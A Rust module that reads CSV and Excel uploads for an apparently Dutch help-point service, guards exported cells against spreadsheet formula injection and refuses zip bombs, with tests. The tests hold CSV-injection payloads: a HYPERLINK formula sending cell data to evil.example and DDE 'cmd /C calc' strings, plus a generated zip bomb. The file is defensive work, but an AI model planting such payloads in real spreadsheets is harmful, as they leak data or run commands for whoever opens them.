//! Spreadsheets as they arrive (CSV with `;`, `,` or tabs, or Excel .xlsx) read
//! into one plain table of text cells with the spreadsheet's own row numbers.

use crate::help_point_import::{decode, detect_delimiter};

/// A sheet: the header row and the data rows, each with its 1-based row number.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Table {
    pub headers: Vec<String>,
    pub rows: Vec<(usize, Vec<String>)>,
}

impl Table {
    /// The table as CSV text (`;`-separated, as Dutch Excel writes it) whose data rows read back with the same row
    /// numbers: the header goes on line 1 and rows the sheet left empty stay as empty lines. Pages carry this text
    /// from the check to the confirmation, so an Excel upload is confirmed like a CSV one.
    #[must_use]
    pub fn to_csv(&self) -> String {
        // Every cell in quotes: the reader guesses the separator from the header line outside quotes, so a sheet of
        // one column with a comma or tab in a cell would otherwise read back split on that character.
        let mut out = csv::WriterBuilder::new()
            .delimiter(b';')
            .quote_style(csv::QuoteStyle::Always)
            .flexible(true)
            .from_writer(Vec::new());
        let blank = vec![""; self.headers.len().max(1)];
        // Writing into a Vec cannot fail; a failure would only drop rows, which the check then reports.
        // Guarded like every CSV keten writes; `read_csv` takes the guard off again.
        let _ = out.write_record(
            self.headers
                .iter()
                .map(|c| neutralise_formula(c).into_owned()),
        );
        // The header goes on line 1 (readers take the first line as the header); data rows keep their numbers.
        let mut line = 2;
        for (number, cells) in &self.rows {
            while line < *number {
                let _ = out.write_record(&blank);
                line += 1;
            }
            let _ = out.write_record(cells.iter().map(|c| neutralise_formula(c).into_owned()));
            line += 1;
        }
        let bytes = out.into_inner().unwrap_or_default();
        String::from_utf8(bytes).unwrap_or_default()
    }
}

/// The characters that make a spreadsheet program read a cell as a formula (OWASP "CSV injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as it may go into a CSV file people open in Excel or LibreOffice: a value that would start a formula
/// (`=HYPERLINK(...)`, `@SUM(...)`, `+31 ...`) gets a leading apostrophe, which those programs show as text.
/// Every CSV download goes through this one function (`keten_web::download::csv`).
#[must_use]
pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    // Cells that already look guarded ('=...) get one more apostrophe, so that the guard can be taken off
    // again without touching a value that really began with an apostrophe.
    if looks_like_formula(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The reverse of [`neutralise_formula`] for imports, so that an exported file reads back unchanged: one
/// apostrophe in front of (apostrophes and) a formula character goes.
#[must_use]
pub fn strip_formula_guard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if looks_like_formula(rest) => rest,
        _ => cell,
    }
}

/// A formula character after any number of apostrophes.
fn looks_like_formula(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// Reads CSV or XLSX (recognised by its zip signature); the error is Dutch.
pub fn read_table(bytes: &[u8]) -> Result<Table, String> {
    if bytes.starts_with(b"PK\x03\x04") {
        read_xlsx(bytes)
    } else {
        let (text, _) = decode(bytes);
        read_csv(&text)
    }
}

/// CSV with a header line; blank lines are skipped. Row numbers count physical
/// records, so a cell with a line break in it stays one row.
pub fn read_csv(text: &str) -> Result<Table, String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(detect_delimiter(text))
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut table = Table::default();
    for (index, record) in reader.records().enumerate() {
        if index > MAX_ROWS {
            return Err(format!(
                "Het bestand heeft meer dan {MAX_ROWS} rijen. Splits het in kleinere bestanden."
            ));
        }
        let record = record.map_err(|e| format!("Het bestand is geen leesbare CSV ({e})."))?;
        let cells: Vec<String> = record
            .iter()
            .map(|c| strip_formula_guard(c.trim()).to_owned())
            .collect();
        if index == 0 {
            table.headers = cells;
        } else if cells.iter().any(|c| !c.is_empty()) {
            table.rows.push((index + 1, cells));
        }
    }
    if table.headers.is_empty() {
        return Err("Het bestand is leeg: er staat geen kopregel in.".into());
    }
    Ok(table)
}

/// The most an uploaded workbook may unpack to. A real sheet of a few thousand help points or a year of questions
/// unpacks to a few megabytes; a zip bomb of 600 KB unpacks to hundreds (issue 18).
pub const MAX_UNPACKED_BYTES: u64 = 64 * 1024 * 1024;
/// The most rows a sheet may have.
pub const MAX_ROWS: usize = 100_000;

/// Refuses a workbook that unpacks to more than [`MAX_UNPACKED_BYTES`], before anything parses it. The sizes in
/// the zip directory are checked first (cheap); then every entry is inflated and counted, because those sizes can
/// lie. Inflating stops at the limit, so a bomb costs at most that much work.
fn check_unpacked_size(bytes: &[u8]) -> Result<(), String> {
    use std::io::Read;
    let too_big = || {
        format!(
            "Het Excel-bestand is uitgepakt groter dan {} MB. Sla het op zonder lege rijen en opmaak, of splits het in kleinere bestanden.",
            MAX_UNPACKED_BYTES / 1024 / 1024
        )
    };
    let unreadable =
        |e: zip::result::ZipError| format!("Het Excel-bestand is niet te lezen ({e}).");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).map_err(unreadable)?;
    let declared = (0..archive.len())
        .filter_map(|i| archive.by_index_raw(i).ok().map(|f| f.size()))
        .fold(0u64, u64::saturating_add);
    if declared > MAX_UNPACKED_BYTES {
        return Err(too_big());
    }
    let mut left = MAX_UNPACKED_BYTES;
    for i in 0..archive.len() {
        let entry = archive.by_index(i).map_err(unreadable)?;
        let read = std::io::copy(&mut entry.take(left + 1), &mut std::io::sink())
            .map_err(|e| format!("Het Excel-bestand is niet te lezen ({e})."))?;
        left = left.checked_sub(read).ok_or_else(too_big)?;
    }
    Ok(())
}

/// The first sheet of an .xlsx workbook. Excel dates become `YYYY-MM-DD`
/// (with ` HH:MM` when there is a time), whole numbers lose their `.0`.
/// A workbook that unpacks to more than [`MAX_UNPACKED_BYTES`] or has more than [`MAX_ROWS`] rows is refused.
pub fn read_xlsx(bytes: &[u8]) -> Result<Table, String> {
    use calamine::{Data, Reader, Xlsx};
    check_unpacked_size(bytes)?;
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))
        .map_err(|e| format!("Het Excel-bestand is niet te lezen ({e})."))?;
    let range = book
        .worksheet_range_at(0)
        .ok_or_else(|| "Het Excel-bestand heeft geen werkblad.".to_owned())?
        .map_err(|e| format!("Het eerste werkblad is niet te lezen ({e})."))?;
    if range.height() > MAX_ROWS + 1 {
        return Err(format!(
            "Het werkblad heeft meer dan {MAX_ROWS} rijen. Splits het in kleinere bestanden."
        ));
    }
    let first_row = range.start().map_or(0, |(r, _)| r as usize);
    let mut table = Table::default();
    for (i, row) in range.rows().enumerate() {
        let cells: Vec<String> = row
            .iter()
            .map(|cell| match cell {
                Data::Empty => String::new(),
                Data::String(s) => s.trim().to_owned(),
                Data::Int(i) => i.to_string(),
                Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
                Data::Float(f) => f.to_string(),
                Data::Bool(b) => if *b { "ja" } else { "nee" }.to_owned(),
                Data::DateTime(d) => excel_date(d.as_f64()),
                Data::DateTimeIso(s) | Data::DurationIso(s) => s.clone(),
                Data::Error(e) => format!("#{e:?}"),
            })
            .collect();
        let number = first_row + i + 1;
        if i == 0 {
            table.headers = cells;
        } else if cells.iter().any(|c| !c.is_empty()) {
            table.rows.push((number, cells));
        }
    }
    if table.headers.is_empty() {
        return Err("Het werkblad is leeg: er staat geen kopregel in.".into());
    }
    Ok(table)
}

/// An Excel serial date (days since 1899-12-30, the fraction is the time).
fn excel_date(serial: f64) -> String {
    let days = serial.floor() as i64;
    let minutes = ((serial - serial.floor()) * 24.0 * 60.0).round() as i64;
    let Ok(date) = jiff::civil::date(1899, 12, 30).checked_add(jiff::Span::new().days(days)) else {
        return serial.to_string();
    };
    if minutes == 0 {
        date.to_string()
    } else {
        format!("{date} {:02}:{:02}", minutes / 60, minutes % 60)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_with_semicolons_blank_lines_and_a_bom() {
        let t = read_table(
            "\u{feff}datum;onderwerp\n\n2026-03-02;DigiD\n\"2026-03-03\";\"Bank\nzaken\"\n"
                .as_bytes(),
        )
        .unwrap();
        assert_eq!(t.headers, vec!["datum", "onderwerp"]);
        assert_eq!(t.rows.len(), 2);
        assert_eq!(t.rows[0].1, vec!["2026-03-02", "DigiD"]);
        assert!(read_table(b"").is_err());
    }

    #[test]
    fn formula_cells_are_neutralised_and_read_back() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klik hier\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+31 10 123 45 67",
            "-2+3",
            "\tx",
            "\rx",
        ] {
            let safe = neutralise_formula(bad);
            assert_eq!(safe, format!("'{bad}"));
            assert_eq!(strip_formula_guard(&safe), bad);
        }
        assert_eq!(neutralise_formula("Bibliotheek"), "Bibliotheek");
        assert_eq!(neutralise_formula(""), "");
        assert_eq!(strip_formula_guard("'t Hofje"), "'t Hofje");
        // Found by the property tests: a value that itself starts with an apostrophe and a formula
        // character keeps its apostrophe through an export and an import.
        for odd in ["'\t\"", "'=1", "''+2"] {
            let safe = neutralise_formula(odd);
            assert_eq!(safe, format!("'{odd}"));
            assert_eq!(strip_formula_guard(&safe), odd);
        }
    }

    #[test]
    fn a_zip_bomb_is_refused_before_it_is_parsed() {
        use std::io::Write;
        // A sheet of 70 MB of the same row compresses to well under a megabyte.
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .compression_level(Some(9));
        zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
        let row =
            "<row><c t=\"inlineStr\"><is><t>aaaaaaaaaaaaaaaaaaaa</t></is></c></row>".repeat(1000);
        for _ in 0..(70 * 1024 * 1024 / row.len()) {
            zip.write_all(row.as_bytes()).unwrap();
        }
        let bytes = zip.finish().unwrap().into_inner();
        assert!(bytes.len() < 1024 * 1024, "{}", bytes.len());
        let error = read_table(&bytes).unwrap_err();
        assert!(error.contains("uitgepakt groter dan 64 MB"), "{error}");
    }

    #[test]
    fn too_many_rows_are_refused() {
        let text = format!("a\n{}", "1\n".repeat(MAX_ROWS + 1));
        assert!(read_csv(&text).unwrap_err().contains("meer dan"));
        assert_eq!(
            read_csv(&format!("a\n{}", "1\n".repeat(MAX_ROWS)))
                .unwrap()
                .rows
                .len(),
            MAX_ROWS
        );
    }

    #[test]
    fn excel_serial_dates() {
        assert_eq!(excel_date(46083.0), "2026-03-02");
        assert_eq!(excel_date(46083.5), "2026-03-02 12:00");
    }

    #[test]
    fn xlsx_round_trip_through_a_real_workbook() {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "datum").unwrap();
        sheet.write_string(0, 1, "minuten").unwrap();
        let format = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
        let date = rust_xlsxwriter::ExcelDateTime::from_ymd(2026, 3, 2).unwrap();
        sheet
            .write_datetime_with_format(1, 0, &date, &format)
            .unwrap();
        sheet.write_number(1, 1, 15.0).unwrap();
        let bytes = book.save_to_buffer().unwrap();
        let t = read_table(&bytes).unwrap();
        assert_eq!(t.headers, vec!["datum", "minuten"]);
        assert_eq!(
            t.rows,
            vec![(2, vec!["2026-03-02".to_owned(), "15".to_owned()])]
        );
    }

    #[test]
    fn a_sheet_as_csv_keeps_its_row_numbers() {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        // The header on row 3, a gap on row 5, a cell with a line break and one with a separator in it.
        sheet.write_string(2, 0, "naam").unwrap();
        sheet.write_string(2, 1, "adres").unwrap();
        sheet.write_string(3, 0, "Bieb; centrum").unwrap();
        sheet.write_string(3, 1, "Hoofdstraat 1").unwrap();
        sheet.write_string(5, 0, "Buurthuis").unwrap();
        sheet.write_string(5, 1, "Dorpsweg 2\nachterom").unwrap();
        let t = read_table(&book.save_to_buffer().unwrap()).unwrap();
        assert_eq!(t.rows[1].0, 6);
        let again = read_csv(&t.to_csv()).unwrap();
        assert_eq!(again.headers, t.headers);
        assert_eq!(again.rows, t.rows);
    }

    /// Found by the property tests: one column with a comma (or tab) in a cell read back split into two cells.
    #[test]
    fn a_one_column_sheet_with_a_comma_or_tab_reads_back_whole() {
        for table in [
            Table {
                headers: vec!["adres".into()],
                rows: vec![(2, vec!["Hoogstraat 1, Rotterdam".into()])],
            },
            Table {
                headers: vec![String::new()],
                rows: vec![(3, vec![",".into()])],
            },
            Table {
                headers: vec!["naam\tadres".into()],
                rows: vec![(2, vec!["Bieb".into()])],
            },
        ] {
            assert_eq!(read_csv(&table.to_csv()).unwrap(), table);
        }
    }
}
